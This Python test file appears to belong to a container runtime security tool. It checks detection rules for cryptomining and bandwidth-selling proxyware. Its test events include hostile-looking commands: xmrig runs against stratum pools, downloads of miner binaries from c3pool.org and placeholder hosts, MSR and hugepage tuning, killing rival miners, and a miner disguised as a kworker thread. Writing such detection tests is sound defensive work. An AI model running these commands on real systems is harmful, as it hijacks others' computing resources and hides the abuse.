"""Coin mining and bandwidth selling."""

from __future__ import annotations

import pytest
from seawall.domain.runtime_events import ContainerContext

from tests.detection.runtime_events import HOST, PLATFORM, Case, Cases, asked, dialled, raised, ran, rows

CASES: Cases = {
    "RT-0201": (
        [
            ran("/app/worker -o stratum+tcp://pool.example:3333 -u x"),
            ran("xmrig --version"),
            ran("helper --donate-level 1"),
        ],
        [ran("grep -r stratum+tcp:// /etc"), ran("sh -c 'pkill -f xmrig'"), ran("app --url https://shop.example:8443")],
    ),
    "RT-0202": (
        [ran("xmrig", exe="/tmp/xmrig"), ran("xmrig -c c.json", exe="/usr/bin/kswap")],
        [ran("xmrig", where=HOST), ran("miner-stats-viewer")],
    ),
    "RT-0203": (
        [
            ran("curl -LO https://files.example/xmrig-6.21-linux-static-x64.tar.gz"),
            ran("sh -c 'wget http://c3pool.org/x'"),
            ran(
                'python -c \'import urllib.request as u;u.urlretrieve("http://f.example/xmrig-6.21.0-linux-x64.tar.gz","m")\''
            ),
        ],
        [ran("curl -LO https://files.example/determiner.tar.gz"), ran("cat xmrig-6.21.tar.gz")],
    ),
    "RT-0204": (
        [ran("./a -o pool.example.com:3333 -u wallet -t 4", exe="/tmp/a"), ran("[kworker/0:1]", exe="/tmp/.x/k")],
        [ran("psql --server db.example.com:5432 -u app"), ran("[kworker/0:1]", exe="/usr/bin/k")],
    ),
    "RT-0205": (
        [ran("modprobe msr allow_writes=on"), ran("sysctl -w vm.nr_hugepages=1280"), ran("wrmsr -a 0x1a4 0xf")],
        [
            ran("modprobe msr", where=PLATFORM),
            ran("modprobe msr", where=HOST),
            ran("sysctl -w net.core.somaxconn=1024"),
        ],
    ),
    "RT-0206": (
        [[ran("pkill -f xmrig"), ran("pkill -f kinsing", at=3)]],
        [
            [ran("pkill -f xmrig"), ran("pkill -f xmrig", at=3)],
            [ran("pkill -f nginx"), ran("pkill -f app", at=3)],
            [ran("pkill -f xmrig"), ran("pkill -f kinsing", at=600)],
        ],
    ),
    "RT-0207": (
        [dialled("192.0.2.7", 3333, host="eu.2miners.com")],
        [dialled("192.0.2.7", 3333), dialled("192.0.2.7", 443, host="2miners.com.example")],
    ),
    "RT-0208": ([asked("xmr.2miners.com")], [asked("2miners.com.example"), asked("not2miners.com")]),
    "RT-0209": (
        [ran("earnapp start"), ran("app", where=ContainerContext(id="1", image="docker.io/iproyal/pawns-cli:latest"))],
        [ran("app"), ran("earn")],
    ),
}


@pytest.mark.parametrize(("rule", "case", "fires"), rows(CASES))
def test_mining(rule: str, case: Case, fires: bool) -> None:
    assert raised(rule, case) is fires
